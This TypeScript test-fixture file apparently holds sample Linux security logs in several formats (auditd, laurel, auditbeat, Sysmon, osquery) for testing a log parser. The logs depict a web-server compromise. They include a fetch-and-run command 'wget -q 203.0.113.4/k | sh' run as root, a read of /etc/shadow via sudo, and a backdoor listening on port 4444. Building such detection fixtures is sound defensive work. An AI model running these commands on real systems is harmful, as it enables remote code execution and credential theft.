import { at, hexOf, iso, json, lines, type Sample, START } from "./sample.ts";

const SECONDS = (START / 1000).toFixed(3);
const ACT = (serial: number, type: string, rest: string) =>
  `type=${type} msg=audit(${SECONDS}:${serial}): ${rest}`;
const CALL =
  'arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=10 pid=11 auid=1001 uid=0 gid=0 euid=0 tty=pts1 ses=8 comm="bash" exe="/usr/bin/bash" key=(null)';

const STARTED = [
  ACT(71, "SYSCALL", CALL),
  ACT(71, "EXECVE", `argc=3 a0="bash" a1="-c" a2=${hexOf("wget -q 203.0.113.4/k | sh")}`),
  ACT(71, "CWD", 'cwd="/var/tmp"'),
  ACT(71, "PATH", 'item=0 name="/usr/bin/bash" inode=5 mode=0100755 ouid=0 nametype=NORMAL'),
  ACT(71, "PROCTITLE", `proctitle=${hexOf("bash\0-c")}`),
];
const CONNECTED = [
  ACT(72, "SYSCALL", CALL.replace("syscall=59", "syscall=42")),
  ACT(72, "SOCKADDR", "saddr=0200115CCB0071040000000000000000"),
];

const SHELL = { events: 1, type: "audit", says: ["wget -q 203.0.113.4", "root"], first: START };

const SYSMON = `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff}"/><EventID>1</EventID><TimeCreated SystemTime="${iso(0)}"/><EventRecordID>3</EventRecordID><Computer>web-9</Computer></System><EventData><Data Name="Image">/usr/bin/bash</Data><Data Name="CommandLine">bash -c &quot;wget -q 203.0.113.4/k | sh&quot;</Data><Data Name="User">root</Data><Data Name="ParentImage">/usr/sbin/apache2</Data><Data Name="ProcessId">11</Data></EventData></Event>`;

export const LINUX_SAMPLES: readonly Sample[] = [
  {
    ...SHELL,
    name: "audit.log, one act in five records",
    schema: "auditd",
    says: [...SHELL.says, "1001"],
    documents: lines(STARTED.join("\n")),
  },
  {
    ...SHELL,
    name: "audit.log, two acts mixed, named by the daemon",
    schema: "auditd",
    events: 2,
    says: [...SHELL.says, "203.0.113.4:4444", "ops"],
    documents: lines(
      [STARTED[0], CONNECTED[0], ...STARTED.slice(1), CONNECTED[1]]
        .map((line) =>
          line?.includes("SYSCALL") ? `${line}\u001dARCH=x86_64 AUID="ops" UID="root"` : line,
        )
        .join("\n"),
    ),
  },
  {
    name: "audit.log, a login refused and a command by sudo",
    schema: "auditd",
    documents: lines(
      [
        `node=gate-1 ${ACT(80, "USER_LOGIN", `pid=9 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="mona" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.50 terminal=ssh res=failed'`)}`,
        `node=gate-1 ${ACT(81, "USER_CMD", `pid=9 uid=1001 auid=1001 ses=8 msg='cwd="/home/mona" cmd=${hexOf("cat /etc/shadow")} exe="/usr/bin/sudo" terminal=pts/0 res=success'`)}`,
      ].join("\n"),
    ),
    events: 2,
    type: "login",
    says: ["mona", "203.0.113.50", "gate-1", "cat /etc/shadow"],
    first: START,
  },
  {
    ...SHELL,
    name: "audit records behind a header of syslog",
    schema: "auditd",
    says: [...SHELL.says, "web-9"],
    documents: lines(STARTED.map((line) => `Mar  4 05:06:07 web-9 audispd: ${line}`).join("\n")),
  },
  {
    ...SHELL,
    name: "ausearch, interpreted",
    schema: "auditd",
    says: [...SHELL.says, "ops"],
    documents: lines(
      [
        "----",
        `type=EXECVE msg=audit(03/04/2025 05:06:07.000:71) : argc=3 a0=bash a1=-c a2=wget -q 203.0.113.4/k | sh `,
        `type=SYSCALL msg=audit(03/04/2025 05:06:07.000:71) : arch=x86_64 syscall=execve success=yes exit=0 ppid=10 pid=11 auid=ops uid=root gid=root tty=pts1 ses=8 comm=bash exe=/usr/bin/bash key=(null) `,
      ].join("\n"),
    ),
  },
  {
    ...SHELL,
    name: "laurel",
    schema: "laurel",
    says: [...SHELL.says, "web-9"],
    documents: [
      json({
        ID: `${SECONDS}:71`,
        NODE: "web-9",
        SYSCALL: {
          arch: "0xc000003e",
          syscall: 59,
          success: "yes",
          exit: 0,
          pid: 11,
          ppid: 10,
          auid: 1001,
          uid: 0,
          tty: "pts1",
          ses: 8,
          comm: "bash",
          exe: "/usr/bin/bash",
          SYSCALL: "execve",
          UID: "root",
          AUID: "ops",
        },
        EXECVE: { argc: 3, ARGV: ["bash", "-c", "wget -q 203.0.113.4/k | sh"] },
        CWD: { cwd: "/var/tmp" },
        PATH: [{ item: 0, name: "/usr/bin/bash", nametype: "NORMAL" }],
        PARENT_INFO: { exe: "/usr/sbin/apache2", ARGV: ["apache2"] },
      }),
    ],
  },
  {
    ...SHELL,
    name: "go-audit",
    schema: "go-audit",
    documents: [
      json({
        sequence: 71,
        timestamp: SECONDS,
        messages: [
          { type: 1300, data: CALL },
          {
            type: 1309,
            data: `argc=3 a0="bash" a1="-c" a2=${hexOf("wget -q 203.0.113.4/k | sh")}`,
          },
        ],
        uid_map: { "0": "root", "1001": "ops" },
      }),
    ],
  },
  {
    ...SHELL,
    name: "auditbeat",
    schema: "auditbeat",
    says: [...SHELL.says, "web-9", "ops"],
    documents: [
      json({
        "@timestamp": iso(0),
        host: { name: "web-9" },
        event: { module: "auditd", action: "executed", outcome: "success" },
        user: { name: "root", id: "0", audit: { name: "ops", id: "1001" } },
        process: {
          pid: 11,
          executable: "/usr/bin/bash",
          args: ["bash", "-c", "wget -q 203.0.113.4/k | sh"],
        },
        auditd: { message_type: "syscall", session: "8", data: { syscall: "execve", tty: "pts1" } },
      }),
    ],
  },
  {
    ...SHELL,
    name: "Sysmon for Linux in syslog",
    schema: "sysmon-linux",
    says: [...SHELL.says, "web-9", "apache2"],
    documents: lines(`Mar  4 05:06:07 web-9 sysmon: ${SYSMON}`),
  },
  {
    ...SHELL,
    name: "a process in Elastic's schema",
    schema: "ecs-process",
    says: [...SHELL.says, "web-9"],
    documents: [
      json({
        "@timestamp": iso(0),
        agent: { type: "endpoint" },
        ecs: { version: "8.0.0" },
        host: { hostname: "web-9" },
        event: { category: ["process"], type: ["start"], action: "exec" },
        user: { name: "root" },
        process: {
          executable: "/usr/bin/bash",
          command_line: "bash -c wget -q 203.0.113.4/k | sh",
          parent: { executable: "/usr/sbin/apache2" },
        },
      }),
    ],
  },
  {
    name: "a login that auditbeat saw",
    schema: "ecs-login",
    documents: [
      json({
        "@timestamp": iso(0),
        agent: { type: "auditbeat" },
        host: { name: "web-9" },
        event: { module: "system", dataset: "login", action: "user_login", outcome: "failure" },
        user: { name: "mona", terminal: "ssh" },
        source: { ip: "203.0.113.50" },
      }),
    ],
    events: 1,
    type: "login",
    says: ["mona", "203.0.113.50", "failed", "web-9"],
    first: START,
  },
  {
    name: "a file that auditbeat watches",
    schema: "ecs-file",
    documents: [
      json({
        "@timestamp": iso(0),
        agent: { type: "auditbeat" },
        host: { name: "web-9" },
        event: { module: "file_integrity", action: ["updated"] },
        file: { path: "/etc/ld.so.preload", owner: "root" },
      }),
    ],
    events: 1,
    type: "file",
    says: ["/etc/ld.so.preload", "web-9", "updated"],
    first: START,
  },
  {
    name: "osquery, differences and a snapshot",
    schema: "osquery",
    documents: [
      json({
        name: "listening",
        hostIdentifier: "db-5",
        calendarTime: "Tue Mar  4 05:06:07 2025 UTC",
        unixTime: at(0) / 1000,
        action: "added",
        columns: { port: "4444", path: "/tmp/.x/backdoor" },
      }),
    ],
    events: 1,
    type: "osquery",
    says: ["/tmp/.x/backdoor", "db-5"],
    first: START,
  },
];
